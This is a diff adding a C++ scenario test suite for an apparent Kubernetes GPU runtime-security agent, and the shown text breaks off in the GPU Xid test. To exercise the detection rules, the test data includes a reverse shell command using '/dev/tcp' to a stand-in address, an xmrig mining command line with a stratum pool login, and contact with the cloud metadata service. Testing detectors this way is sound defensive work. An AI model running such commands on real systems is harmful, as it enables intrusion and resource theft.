@@ -1,0 +1,867 @@
+// Scenario tests: the real `vigil run` with the bundled rules, watching real
+// processes in stand-in pods on this machine, one scenario per rule category
+// plus benign workloads that must raise nothing.
+//
+// The stand-ins: kubelet-style cgroups (systemd driver, containerd scopes)
+// under the cgroup v2 root; a Kubernetes API stand-in on loopback serving the
+// pods (LIST and WATCH); per pod a network namespace whose loopback carries the
+// cluster and "public" addresses, with a DNS server and TCP sinks (a mining
+// pool, a model hub) inside; a private /dev with NVIDIA device nodes that have
+// the numbers of /dev/null (the sensor recognises them by name); Xid lines
+// written to a FIFO that vigil reads as its kernel log (user space cannot write
+// kernel-facility records to the real /dev/kmsg).
+//
+// Needs root and a kernel with BTF; skipped with a message otherwise.
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <net/if.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <sched.h>
+#include <signal.h>
+#include <sys/mount.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <chrono>
+#include <cstdio>
+#include <cstring>
+#include <filesystem>
+#include <fstream>
+#include <functional>
+#include <map>
+#include <mutex>
+#include <set>
+#include <sstream>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include <gtest/gtest.h>
+#include <nlohmann/json.hpp>
+
+namespace {
+
+using json = nlohmann::json;
+namespace fs = std::filesystem;
+using namespace std::chrono_literals;
+
+constexpr const char* kNode = "vigil-scenario-node";
+
+std::string cgroup2_root() {
+  std::ifstream in("/proc/self/mountinfo");
+  std::string line;
+  while (std::getline(in, line)) {
+    auto sep = line.find(" - cgroup2 ");
+    if (sep == std::string::npos) continue;
+    std::istringstream ls(line.substr(0, sep));
+    std::string f[5];
+    for (auto& x : f) ls >> x;
+    if (f[3] == "/") return f[4];
+  }
+  return {};
+}
+
+// ---------------------------------------------------------------------------
+// Stand-in pods
+
+struct PodSpec {
+  std::string name{}, ns{}, uid{}, container{}, image{};
+  std::map<std::string, std::string> labels{};
+  int gpu_limit = 0;
+  std::string visible{};   // NVIDIA_VISIBLE_DEVICES, "" = unset
+  std::string id{};        // 64 hex
+  std::string scope{};     // cgroup directory
+  std::string pod_dir{};
+};
+
+json pod_json(const PodSpec& p) {
+  json c = {{"name", p.container}, {"image", p.image}};
+  if (p.gpu_limit > 0) c["resources"] = {{"limits", {{"nvidia.com/gpu", std::to_string(p.gpu_limit)}}}};
+  if (!p.visible.empty()) c["env"] = json::array({{{"name", "NVIDIA_VISIBLE_DEVICES"}, {"value", p.visible}}});
+  json labels = json::object();
+  for (const auto& [k, v] : p.labels) labels[k] = v;
+  return {{"apiVersion", "v1"},
+          {"kind", "Pod"},
+          {"metadata", {{"name", p.name}, {"namespace", p.ns}, {"uid", p.uid}, {"resourceVersion", "7"},
+                        {"labels", labels}}},
+          {"spec", {{"nodeName", kNode}, {"containers", json::array({c})}}},
+          {"status", {{"phase", "Running"},
+                      {"containerStatuses", json::array({{{"name", p.container},
+                                                          {"containerID", "containerd://" + p.id},
+                                                          {"image", p.image},
+                                                          {"ready", true}}})}}}};
+}
+
+std::string hex_id(int n) {
+  char buf[65];
+  for (int i = 0; i < 64; ++i) buf[i] = "0123456789abcdef"[(n * 7 + i * 13 + (i * i) % 11) % 16];
+  buf[64] = 0;
+  std::string s(buf);
+  std::snprintf(buf, 9, "%08x", 0x5ce00000 + n);
+  s.replace(0, 8, buf);
+  return s;
+}
+
+// ---------------------------------------------------------------------------
+// Kubernetes API stand-in: LIST returns the pods, WATCH stays open and silent.
+
+class ApiStandIn {
+ public:
+  explicit ApiStandIn(std::vector<json> pods) : pods_(std::move(pods)) {
+    ls_ = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    int one = 1;
+    setsockopt(ls_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
+    if (bind(ls_, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0 || listen(ls_, 16) != 0) return;
+    socklen_t l = sizeof(a);
+    getsockname(ls_, reinterpret_cast<sockaddr*>(&a), &l);
+    port_ = ntohs(a.sin_port);
+    th_ = std::thread([this] { loop(); });
+  }
+  ~ApiStandIn() {
+    stop_ = true;
+    shutdown(ls_, SHUT_RDWR);
+    if (th_.joinable()) th_.join();
+    close(ls_);
+    for (int fd : watches_) close(fd);
+  }
+  int port() const { return port_; }
+  bool listed() const { return lists_ > 0; }
+
+ private:
+  void loop() {
+    while (!stop_) {
+      pollfd pf{ls_, POLLIN, 0};
+      if (poll(&pf, 1, 200) != 1) continue;
+      int c = accept4(ls_, nullptr, nullptr, SOCK_CLOEXEC);
+      if (c < 0) continue;
+      std::string req;
+      char buf[4096];
+      while (req.find("\r\n\r\n") == std::string::npos) {
+        pollfd cp{c, POLLIN, 0};
+        if (poll(&cp, 1, 2000) != 1) break;
+        ssize_t n = read(c, buf, sizeof(buf));
+        if (n <= 0) break;
+        req.append(buf, static_cast<std::size_t>(n));
+      }
+      std::string first = req.substr(0, req.find("\r\n"));
+      if (first.find("watch=") != std::string::npos) {
+        std::string h = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
+        (void)write(c, h.data(), h.size());
+        watches_.push_back(c);  // open and silent until the end
+        continue;
+      }
+      json list = {{"apiVersion", "v1"}, {"kind", "PodList"},
+                   {"metadata", {{"resourceVersion", "100"}}}, {"items", pods_}};
+      std::string body = list.dump();
+      std::string resp = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: " +
+                         std::to_string(body.size()) + "\r\n\r\n" + body;
+      std::size_t off = 0;
+      while (off < resp.size()) {
+        ssize_t n = write(c, resp.data() + off, resp.size() - off);
+        if (n <= 0) break;
+        off += static_cast<std::size_t>(n);
+      }
+      close(c);
+      ++lists_;
+    }
+  }
+  std::vector<json> pods_;
+  int ls_ = -1;
+  int port_ = 0;
+  std::atomic<bool> stop_{false};
+  std::atomic<int> lists_{0};
+  std::vector<int> watches_;
+  std::thread th_;
+};
+
+// ---------------------------------------------------------------------------
+// The agent under test.
+
+class VigilAgent {
+ public:
+  bool start(int api_port, const std::string& kmsg_fifo, std::string& why) {
+    int out[2], err[2];
+    if (pipe2(out, O_CLOEXEC) != 0 || pipe2(err, O_CLOEXEC) != 0) {
+      why = "pipe failed";
+      return false;
+    }
+    pid_ = fork();
+    if (pid_ == 0) {
+      dup2(out[1], 1);
+      dup2(err[1], 2);
+      setenv("NODE_NAME", kNode, 1);
+      std::string api = "http://127.0.0.1:" + std::to_string(api_port);
+      std::string kmsg = "sensor.kmsg_path=" + kmsg_fifo;
+      execl(VIGIL_BINARY, "vigil", "run", "-r", "rules/vigil_rules.yaml", "--k8s-api", api.c_str(), "-o",
+            kmsg.c_str(), "-o", "flight_recorder.enabled=false", "-o", "sensor.usage_interval_ms=1000",
+            "--format", "json", static_cast<char*>(nullptr));
+      _exit(127);
+    }
+    close(out[1]);
+    close(err[1]);
+    out_th_ = std::thread([this, fd = out[0]] { read_lines(fd, true); });
+    err_th_ = std::thread([this, fd = err[0]] { read_lines(fd, false); });
+    auto deadline = std::chrono::steady_clock::now() + 60s;
+    while (std::chrono::steady_clock::now() < deadline) {
+      {
+        std::lock_guard<std::mutex> g(mu_);
+        if (ready_) return true;
+        if (exited_) break;
+      }
+      std::this_thread::sleep_for(50ms);
+    }
+    why = "vigil did not log 'ready' within 60 s; stderr:\n" + stderr_text();
+    return false;
+  }
+  void stop() {
+    if (pid_ > 0) {
+      kill(pid_, SIGTERM);
+      int st = 0;
+      waitpid(pid_, &st, 0);
+      pid_ = -1;
+    }
+    if (out_th_.joinable()) out_th_.join();
+    if (err_th_.joinable()) err_th_.join();
+  }
+  ~VigilAgent() { stop(); }
+
+  // Alerts seen so far matching pred; waits up to `wait` for at least one.
+  std::vector<json> alerts(const std::function<bool(const json&)>& pred,
+                           std::chrono::milliseconds wait = 0ms) {
+    auto deadline = std::chrono::steady_clock::now() + wait;
+    while (true) {
+      std::vector<json> out;
+      {
+        std::lock_guard<std::mutex> g(mu_);
+        for (const auto& a : alerts_)
+          if (pred(a)) out.push_back(a);
+      }
+      if (!out.empty() || std::chrono::steady_clock::now() >= deadline) return out;
+      std::this_thread::sleep_for(50ms);
+    }
+  }
+  std::string stderr_text() {
+    std::lock_guard<std::mutex> g(mu_);
+    return err_;
+  }
+
+ private:
+  void read_lines(int fd, bool is_stdout) {
+    std::string pending;
+    char buf[8192];
+    while (true) {
+      ssize_t n = read(fd, buf, sizeof(buf));
+      if (n <= 0) break;
+      pending.append(buf, static_cast<std::size_t>(n));
+      std::size_t nl;
+      while ((nl = pending.find('\n')) != std::string::npos) {
+        std::string line = pending.substr(0, nl);
+        pending.erase(0, nl + 1);
+        std::lock_guard<std::mutex> g(mu_);
+        if (is_stdout) {
+          auto j = json::parse(line, nullptr, false);
+          if (!j.is_discarded() && j.contains("rule")) alerts_.push_back(std::move(j));
+        } else {
+          if (err_.size() < (1u << 20)) err_ += line + "\n";
+          if (line.find("ready") != std::string::npos) ready_ = true;
+        }
+      }
+    }
+    close(fd);
+    std::lock_guard<std::mutex> g(mu_);
+    if (!is_stdout) exited_ = true;
+  }
+  pid_t pid_ = -1;
+  std::thread out_th_, err_th_;
+  std::mutex mu_;
+  std::vector<json> alerts_;
+  std::string err_;
+  bool ready_ = false;
+  bool exited_ = false;
+};
+
+// ---------------------------------------------------------------------------
+// Running workloads inside a stand-in pod.
+
+struct PodRun {
+  // Addresses put on the pod's loopback (/32 or /128).
+  std::vector<std::string> addrs = {"10.96.0.10", "198.51.100.20", "198.51.100.9", "198.51.100.70",
+                                    "203.0.113.50", "169.254.169.254", "10.100.4.7", "10.244.3.18"};
+  std::map<std::string, std::string> dns;  // name -> IPv4 answer of the DNS stand-in at 10.96.0.10
+  std::vector<std::string> tcp_sinks;      // "ADDR:PORT" accepting and reading connections
+  std::vector<std::string> argv;           // the workload's command line (argv[0] = its path)
+  std::string steps, child_steps;
+};
+
+void put_u16(std::string& s, std::uint16_t v) {
+  s += static_cast<char>(v >> 8);
+  s += static_cast<char>(v & 0xff);
+}
+
+// A DNS server on 10.96.0.10:53 answering A questions from a fixed table.
+void dns_server(const std::map<std::string, std::string>& table) {
+  int s = socket(AF_INET, SOCK_DGRAM, 0);
+  sockaddr_in a{};
+  a.sin_family = AF_INET;
+  a.sin_port = htons(53);
+  inet_pton(AF_INET, "10.96.0.10", &a.sin_addr);
+  if (bind(s, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0) _exit(1);
+  while (true) {
+    unsigned char buf[512];
+    sockaddr_in from{};
+    socklen_t fl = sizeof(from);
+    ssize_t n = recvfrom(s, buf, sizeof(buf), 0, reinterpret_cast<sockaddr*>(&from), &fl);
+    if (n < 17) continue;
+    std::string name;
+    std::size_t i = 12;
+    while (i < static_cast<std::size_t>(n) && buf[i] != 0) {
+      std::size_t len = buf[i];
+      if (!name.empty()) name += '.';
+      name.append(reinterpret_cast<char*>(buf + i + 1), std::min(len, static_cast<std::size_t>(n) - i - 1));
+      i += len + 1;
+    }
+    std::size_t qend = i + 5;
+    if (qend > static_cast<std::size_t>(n)) continue;
+    std::string r(reinterpret_cast<char*>(buf), qend);
+    r[2] = static_cast<char>(0x81);
+    r[3] = static_cast<char>(0x80);
+    auto it = table.find(name);
+    if (it == table.end()) {
+      r[3] = static_cast<char>(0x83);  // NXDOMAIN
+    } else {
+      r[7] = 1;
+      r += "\xC0\x0C";
+      put_u16(r, 1);
+      put_u16(r, 1);
+      r += std::string("\0\0\0\x3c", 4);
+      put_u16(r, 4);
+      in_addr ip{};
+      inet_pton(AF_INET, it->second.c_str(), &ip);
+      r.append(reinterpret_cast<char*>(&ip), 4);
+    }
+    sendto(s, r.data(), r.size(), 0, reinterpret_cast<sockaddr*>(&from), fl);
+  }
+}
+
+void tcp_sink(const std::string& ep) {
+  auto c = ep.rfind(':');
+  sockaddr_in a{};
+  a.sin_family = AF_INET;
+  a.sin_port = htons(static_cast<std::uint16_t>(std::stoi(ep.substr(c + 1))));
+  inet_pton(AF_INET, ep.substr(0, c).c_str(), &a.sin_addr);
+  int s = socket(AF_INET, SOCK_STREAM, 0);
+  int one = 1;
+  setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
+  if (bind(s, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0 || listen(s, 8) != 0) _exit(1);
+  while (true) {
+    int x = accept(s, nullptr, nullptr);
+    if (x < 0) continue;
+    if (fork() == 0) {
+      char buf[1024];
+      while (read(x, buf, sizeof(buf)) > 0) {
+      }
+      _exit(0);
+    }
+    close(x);
+  }
+}
+
+bool run_cmd(const std::vector<std::string>& argv) {
+  pid_t p = fork();
+  if (p == 0) {
+    std::vector<char*> a;
+    for (const auto& s : argv) a.push_back(const_cast<char*>(s.c_str()));
+    a.push_back(nullptr);
+    int devnull = open("/dev/null", O_WRONLY);
+    dup2(devnull, 1);
+    dup2(devnull, 2);
+    execv(a[0], a.data());
+    _exit(127);
+  }
+  int st = 0;
+  waitpid(p, &st, 0);
+  return WIFEXITED(st) && WEXITSTATUS(st) == 0;
+}
+
+// Stand-in NVIDIA and kernel nodes in a private /dev: numbers of /dev/null.
+bool private_dev() {
+  if (mount("none", "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0) return false;
+  if (mount("tmpfs", "/dev", "tmpfs", MS_NOSUID, "mode=0755,size=1m") != 0) return false;
+  mkdir("/dev/nvidia-caps", 0755);
+  mkdir("/dev/pts", 0755);
+  if (mount("devpts", "/dev/pts", "devpts", MS_NOSUID | MS_NOEXEC, "newinstance,ptmxmode=0666") != 0) return false;
+  symlink("pts/ptmx", "/dev/ptmx");
+  for (const char* n : {"/dev/null", "/dev/nvidiactl", "/dev/nvidia0", "/dev/nvidia1", "/dev/nvidia-uvm",
+                        "/dev/nvidia-uvm-tools", "/dev/nvidia-caps/nvidia-cap1", "/dev/nvidia-caps/nvidia-cap12",
+                        "/dev/kmsg", "/dev/mem"}) {
+    if (mknod(n, S_IFCHR | 0666, makedev(1, 3)) != 0) return false;
+  }
+  return true;
+}
+
+// Runs one workload in the pod (cgroup, private netns with the addresses,
+// DNS and TCP stand-ins, private /dev). Returns the workload's pid and exit code.
+std::pair<pid_t, int> run_in_pod(const PodSpec& pod, const PodRun& run) {
+  int p[2];
+  if (pipe(p) != 0) return {-1, -1};
+  pid_t outer = fork();
+  if (outer == 0) {
+    close(p[0]);
+    if (!pod.scope.empty()) std::ofstream(pod.scope + "/cgroup.procs") << getpid() << std::endl;
+    if (unshare(CLONE_NEWNET | CLONE_NEWNS) != 0) _exit(90);
+    if (!run_cmd({"/usr/sbin/ip", "link", "set", "lo", "up"})) _exit(91);
+    for (const auto& a : run.addrs) {
+      if (!run_cmd({"/usr/sbin/ip", "addr", "add", a + "/32", "dev", "lo"})) _exit(92);
+    }
+    if (!private_dev()) _exit(93);
+    std::vector<pid_t> helpers;
+    if (!run.dns.empty()) {
+      pid_t h = fork();
+      if (h == 0) dns_server(run.dns);
+      helpers.push_back(h);
+    }
+    for (const auto& ep : run.tcp_sinks) {
+      pid_t h = fork();
+      if (h == 0) tcp_sink(ep);
+      helpers.push_back(h);
+    }
+    usleep(100 * 1000);  // the stand-ins bind before the workload starts
+    pid_t w = fork();
+    if (w == 0) {
+      setenv("VIGIL_STEPS", run.steps.c_str(), 1);
+      if (!run.child_steps.empty()) setenv("VIGIL_CHILD_STEPS", run.child_steps.c_str(), 1);
+      std::vector<char*> a;
+      for (const auto& s : run.argv) a.push_back(const_cast<char*>(s.c_str()));
+      a.push_back(nullptr);
+      execv(a[0], a.data());
+      _exit(127);
+    }
+    (void)write(p[1], &w, sizeof(w));
+    int st = 0;
+    waitpid(w, &st, 0);
+    for (pid_t h : helpers) kill(h, SIGKILL);
+    for (pid_t h : helpers) waitpid(h, nullptr, 0);
+    _exit(WIFEXITED(st) ? WEXITSTATUS(st) : 100);
+  }
+  close(p[1]);
+  pid_t w = -1;
+  if (read(p[0], &w, sizeof(w)) != sizeof(w)) w = -1;
+  close(p[0]);
+  int st = 0;
+  waitpid(outer, &st, 0);
+  return {w, WIFEXITED(st) ? WEXITSTATUS(st) : -1};
+}
+
+// ---------------------------------------------------------------------------
+// The suite: one agent for all scenarios.
+
+struct Suite {
+  std::string skip;  // non-empty: why the scenarios cannot run here
+  std::string tmp;
+  std::string cg_root, slice;
+  bool created_slice = false;
+  std::map<std::string, PodSpec> pods;
+  std::unique_ptr<ApiStandIn> api;
+  VigilAgent agent;
+  std::string fifo;
+  int fifo_fd = -1;
+  int kmsg_seq = 1000;
+
+  std::string tool(const std::string& name) const { return tmp + "/bin/" + name; }
+
+  void add_pod(PodSpec p) {
+    int n = static_cast<int>(pods.size()) + 1;
+    char uid[64];
+    std::snprintf(uid, sizeof(uid), "5ce0a000-0000-4000-8000-%012d", n);
+    p.uid = uid;
+    p.id = hex_id(n);
+    std::string u = p.uid;
+    for (char& c : u)
+      if (c == '-') c = '_';
+    p.pod_dir = slice + "/kubepods-pod" + u + ".slice";
+    p.scope = p.pod_dir + "/cri-containerd-" + p.id + ".scope";
+    mkdir(p.pod_dir.c_str(), 0755);
+    mkdir(p.scope.c_str(), 0755);
+    pods[p.name] = std::move(p);
+  }
+
+  void set_up() {
+    if (geteuid() != 0) {
+      skip = "scenario tests need root (they load eBPF programs and create cgroups and namespaces)";
+      return;
+    }
+    if (access(VIGIL_BINARY, X_OK) != 0) {
+      skip = std::string("the vigil binary is not built: ") + VIGIL_BINARY;
+      return;
+    }
+    cg_root = cgroup2_root();
+    if (cg_root.empty()) {
+      skip = "no cgroup v2 hierarchy mounted";
+      return;
+    }
+    char tmpl[] = "/tmp/vigil-scenario-XXXXXX";
+    tmp = mkdtemp(tmpl);
+    fs::create_directories(tmp + "/bin");
+    for (const char* n : {"xmrig", "vllm", "nvidia-smi", "runc", "worker", "bpfloader", "pt_main_thread", "etl"}) {
+      fs::create_symlink(VIGIL_WORKLOAD, tool(n));
+    }
+    slice = cg_root + "/kubepods.slice";
+    created_slice = mkdir(slice.c_str(), 0755) == 0;
+
+    add_pod({.name = "miner-0", .ns = "ml", .container = "trainer", .image = "ghcr.io/acme/train:1.4",
+             .labels = {{"app", "train"}}, .gpu_limit = 1, .visible = "0"});
+    add_pod({.name = "web-0", .ns = "shop", .container = "web", .image = "docker.io/library/python:3.12",
+             .labels = {{"app", "web"}}});
+    add_pod({.name = "train-1", .ns = "ml", .container = "trainer", .image = "ghcr.io/acme/train:1.4",
+             .labels = {{"app", "train"}}, .gpu_limit = 1, .visible = "0"});
+    add_pod({.name = "llm-0", .ns = "serving", .container = "vllm", .image = "docker.io/vllm/vllm-openai:v0.6.3",
+             .labels = {{"app.kubernetes.io/component", "inference"}}, .gpu_limit = 1, .visible = "0"});
+    add_pod({.name = "job-0", .ns = "batch", .container = "job", .image = "docker.io/library/python:3.12",
+             .labels = {{"app", "job"}}});
+    add_pod({.name = "llm-ok-0", .ns = "serving", .container = "vllm",
+             .image = "docker.io/vllm/vllm-openai:v0.6.3",
+             .labels = {{"app.kubernetes.io/component", "inference"}}, .gpu_limit = 1, .visible = "1"});
+    add_pod({.name = "pretrain-0", .ns = "research", .container = "pytorch",
+             .image = "nvcr.io/nvidia/pytorch:24.08-py3", .labels = {{"app", "pretrain"}}, .gpu_limit = 2,
+             .visible = "0,1"});
+    add_pod({.name = "etl-0", .ns = "batch", .container = "etl", .image = "registry.example.com/data/etl:7",
+             .labels = {{"job-name", "etl"}}});
+    for (const auto& [name, p] : pods) {
+      struct stat st{};
+      if (stat(p.scope.c_str(), &st) != 0) {
+        skip = "cannot create the kubelet-style cgroup " + p.scope + ": " + std::strerror(errno);
+        return;
+      }
+    }
+
+    fifo = tmp + "/kmsg";
+    mkfifo(fifo.c_str(), 0600);
+    fifo_fd = open(fifo.c_str(), O_RDWR | O_CLOEXEC);  // held open: vigil never sees EOF
+
+    std::vector<json> items;
+    for (const auto& [name, p] : pods) items.push_back(pod_json(p));
+    api = std::make_unique<ApiStandIn>(items);
+    std::string why;
+    if (!agent.start(api->port(), fifo, why)) {
+      skip = "FAIL: " + why;
+      return;
+    }
+    // The pod list must be in vigil's state before any workload runs.
+    for (int i = 0; i < 100 && !api->listed(); ++i) std::this_thread::sleep_for(100ms);
+    std::this_thread::sleep_for(1500ms);
+  }
+
+  void tear_down() {
+    agent.stop();
+    api.reset();
+    if (fifo_fd >= 0) close(fifo_fd);
+    for (const auto& [name, p] : pods) {
+      rmdir(p.scope.c_str());
+      rmdir(p.pod_dir.c_str());
+    }
+    if (created_slice) rmdir(slice.c_str());
+    if (!tmp.empty()) fs::remove_all(tmp);
+  }
+
+  void kmsg(int prefix, const std::string& text) {
+    std::string rec = std::to_string(prefix) + "," + std::to_string(++kmsg_seq) + ",123456789,-;" + text + "\n";
+    (void)write(fifo_fd, rec.data(), rec.size());
+  }
+};
+
+std::string dump(const std::vector<json>& v) {
+  std::string out;
+  for (const auto& j : v) out += j.dump() + "\n";
+  return out;
+}
+
+Suite* g_suite = nullptr;
+
+class Scenario : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    g_suite = new Suite();
+    g_suite->set_up();
+  }
+  static void TearDownTestSuite() {
+    g_suite->tear_down();
+    delete g_suite;
+    g_suite = nullptr;
+  }
+  void SetUp() override {
+    ASSERT_TRUE(g_suite);
+    if (g_suite->skip.rfind("FAIL: ", 0) == 0) FAIL() << g_suite->skip;
+    if (!g_suite->skip.empty()) GTEST_SKIP() << g_suite->skip;
+  }
+  Suite& s() { return *g_suite; }
+  const PodSpec& pod(const std::string& n) { return s().pods.at(n); }
+
+  // Alerts of `rule` for pod `pod_name`, waiting up to 10 s for the first.
+  std::vector<json> alerts_for(const std::string& rule, const std::string& pod_name,
+                               std::chrono::milliseconds wait = 10s) {
+    return s().agent.alerts(
+        [&](const json& a) {
+          return a.value("rule", "") == rule && a.contains("output_fields") &&
+                 a["output_fields"].value("k8s.pod.name", json()) == pod_name;
+        },
+        wait);
+  }
+  void expect_alert(const std::string& rule, const std::string& pod_name, const std::string& priority) {
+    auto got = alerts_for(rule, pod_name);
+    ASSERT_FALSE(got.empty()) << "no '" << rule << "' alert for pod " << pod_name << "\nagent log:\n"
+                              << s().agent.stderr_text();
+    EXPECT_EQ(got[0].value("priority", ""), priority) << got[0].dump();
+    EXPECT_EQ(got[0]["output_fields"].value("k8s.ns.name", json()), pod(pod_name).ns) << got[0].dump();
+    EXPECT_EQ(got[0]["output_fields"].value("container.id", json()), pod(pod_name).id.substr(0, 12))
+        << got[0].dump();
+    auto tags = got[0].value("tags", json::array());
+    EXPECT_FALSE(tags.empty()) << got[0].dump();
+  }
+  // Every alert about the given pods or pids (after letting the pipeline drain).
+  std::vector<json> any_alert(const std::set<std::string>& pods, const std::set<long>& pids) {
+    std::this_thread::sleep_for(3s);
+    return s().agent.alerts([&](const json& a) {
+      if (!a.contains("output_fields")) return false;
+      const auto& f = a["output_fields"];
+      auto pn = f.value("k8s.pod.name", json());
+      if (pn.is_string() && pods.count(pn.get<std::string>())) return true;
+      auto pid = f.value("proc.pid", json());
+      return pid.is_number() && pids.count(pid.get<long>());
+    });
+  }
+};
+
+TEST_F(Scenario, CryptoMiningInAGpuPod) {
+  PodRun r;
+  r.dns = {{"pool.supportxmr.com", "198.51.100.20"}};
+  r.tcp_sinks = {"198.51.100.20:3333"};
+  r.argv = {s().tool("xmrig"), "-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", "44AFFq5kSiGBoZ4NMDwYtN18",
+            "--donate-level", "1"};
+  r.steps =
+      "dns:pool.supportxmr.com@10.96.0.10;open:/dev/nvidiactl:rw;open:/dev/nvidia0:rw;alloc:c6c0;"
+      "tcp:198.51.100.20:3333;send:{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":"
+      "\"44AFF\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/11.2.0\"}}\\n;sleep:300";
+  auto [pid, rc] = run_in_pod(pod("miner-0"), r);
+  ASSERT_EQ(rc, 0) << "the workload failed";
+  expect_alert("Crypto miner binary executed", "miner-0", "Critical");
+  expect_alert("Crypto miner command line", "miner-0", "Critical");
+  expect_alert("DNS query for mining pool domain", "miner-0", "Critical");
+  expect_alert("Stratum mining protocol on outbound connection", "miner-0", "Critical");
+  expect_alert("GPU pod connection to mining pool port", "miner-0", "Error");
+  // "GPU compute process connected to mining pool" needs an RM_ALLOC of a
+  // compute class that the driver accepted. A stand-in node (the numbers of
+  // /dev/null) fails every ioctl, so the allocation above must not count as GPU
+  // compute; the rule itself is covered by rules/tests/crypto_mining_test.yaml.
+  auto compute = alerts_for("GPU compute process connected to mining pool", "miner-0", 0ms);
+  EXPECT_TRUE(compute.empty()) << "a failed allocation was taken for GPU compute: " << dump(compute);
+  auto a = alerts_for("Crypto miner binary executed", "miner-0");
+  if (!a.empty()) {
+    EXPECT_EQ(a[0]["output_fields"].value("proc.pid", json()), pid);
+  }
+}
+
+TEST_F(Scenario, GpuDeviceAccessOutsideTheAllocation) {
+  PodRun nogpu;
+  nogpu.argv = {s().tool("worker")};
+  nogpu.steps = "open:/dev/nvidiactl:rw;open:/dev/nvidia0:rw";
+  ASSERT_EQ(run_in_pod(pod("web-0"), nogpu).second, 0);
+  expect_alert("GPU device opened by container without GPU allocation", "web-0", "Error");
+
+  PodRun other;
+  other.argv = {s().tool("worker")};
+  other.steps = "open:/dev/nvidiactl:rw;open:/dev/nvidia0:rw;open:/dev/nvidia1:rw;"
+                "open:/dev/nvidia-uvm-tools:rw;open:/dev/nvidia-caps/nvidia-cap1:r";
+  ASSERT_EQ(run_in_pod(pod("train-1"), other).second, 0);
+  expect_alert("GPU opened outside container allocation", "train-1", "Error");
+  expect_alert("GPU profiler device opened in container", "train-1", "Warning");
+  expect_alert("GPU management capability opened in container", "train-1", "Error");
+
+  PodRun smi;
+  smi.argv = {s().tool("nvidia-smi"), "-i", "0", "-pl", "450"};
+  ASSERT_EQ(run_in_pod(pod("train-1"), smi).second, 0);
+  expect_alert("GPU management tool run in container", "train-1", "Error");
+  // The pod's own GPU (index 0) and the control nodes are fine.
+  auto wrong = alerts_for("GPU device opened by container without GPU allocation", "train-1", 0ms);
+  EXPECT_TRUE(wrong.empty()) << dump(wrong);
+}
+
+TEST_F(Scenario, ShellsInAnInferencePod) {
+  // A model server that runs a shell (remote code execution).
+  PodRun rce;
+  rce.argv = {s().tool("vllm"), "serve", "/models/llama"};
+  rce.steps = "exec:/bin/sh|-c|id > /dev/null";
+  ASSERT_EQ(run_in_pod(pod("llm-0"), rce).second, 0);
+  expect_alert("Shell spawned by inference server", "llm-0", "Critical");
+
+  // A shell wired to a TCP connection, and one building it with /dev/tcp.
+  PodRun rev;
+  rev.tcp_sinks = {"198.51.100.9:4444"};
+  rev.argv = {s().tool("worker")};
+  rev.steps = "sockshell:198.51.100.9:4444;exec:/bin/bash|-c|exec 3<>/dev/tcp/198.51.100.9/4444 && echo hi >&3";
+  ASSERT_EQ(run_in_pod(pod("llm-0"), rev).second, 0);
+  auto shells = alerts_for("Reverse shell", "llm-0");
+  ASSERT_FALSE(shells.empty()) << s().agent.stderr_text();
+  s().agent.alerts([](const json&) { return false; }, 2s);
+  shells = alerts_for("Reverse shell", "llm-0", 0ms);
+  EXPECT_GE(shells.size(), 2u) << dump(shells);
+
+  // kubectl exec -it: the runtime starts a shell on a terminal.
+  PodRun tty;
+  tty.argv = {s().tool("runc"), "exec"};
+  tty.steps = "ttyshell:/bin/bash";
+  ASSERT_EQ(run_in_pod(pod("llm-0"), tty).second, 0);
+  expect_alert("Interactive shell in inference pod", "llm-0", "Warning");
+}
+
+TEST_F(Scenario, EgressFromAnInferencePod) {
+  PodRun r;
+  r.dns = {{"huggingface.co", "198.51.100.70"}};
+  r.tcp_sinks = {"198.51.100.70:443", "203.0.113.50:443", "169.254.169.254:80"};
+  r.argv = {s().tool("vllm"), "serve", "/models/llama"};
+  r.steps = "dns:huggingface.co@10.96.0.10;tcp:198.51.100.70:443;tcp:203.0.113.50:443;tcp:169.254.169.254:80";
+  ASSERT_EQ(run_in_pod(pod("llm-0"), r).second, 0);
+  auto unexpected = alerts_for("Inference pod connection to unexpected destination", "llm-0");
+  ASSERT_FALSE(unexpected.empty()) << s().agent.stderr_text();
+  std::this_thread::sleep_for(1s);
+  unexpected = alerts_for("Inference pod connection to unexpected destination", "llm-0", 0ms);
+  for (const auto& a : unexpected) {
+    std::string conn = a["output_fields"].value("fd.name", "");
+    EXPECT_EQ(conn.find("198.51.100.70"), std::string::npos) << "the model hub was flagged: " << a.dump();
+  }
+  bool public_flagged = false;
+  for (const auto& a : unexpected)
+    if (a.dump().find("203.0.113.50") != std::string::npos) public_flagged = true;
+  EXPECT_TRUE(public_flagged) << dump(unexpected);
+  expect_alert("Cloud metadata service contacted from pod", "llm-0", "Warning");
+}
+
+TEST_F(Scenario, GpuXidsFromTheKernelLog) {
+  s().kmsg(4, "NVRM: Xid (PCI:0000:3b:00): 79, pid='<unknown>', name=<unknown>, GPU has fallen off the bus.");
+  auto fatal = s().agent.alerts(
+      [](const json& a) {
+        return a.value("rule", "") == "GPU Xid hardware failure" &&
+               a["output_fields"].value("gpu.xid", json()) == 79;
+      },
+      10s);
+  ASSERT_FALSE(fatal.empty()) << s().agent.stderr_text();
+  EXPECT_EQ(fatal[0].value("priority", ""), "Critical");
+  // The kernel line names domain:bus:device (no function).
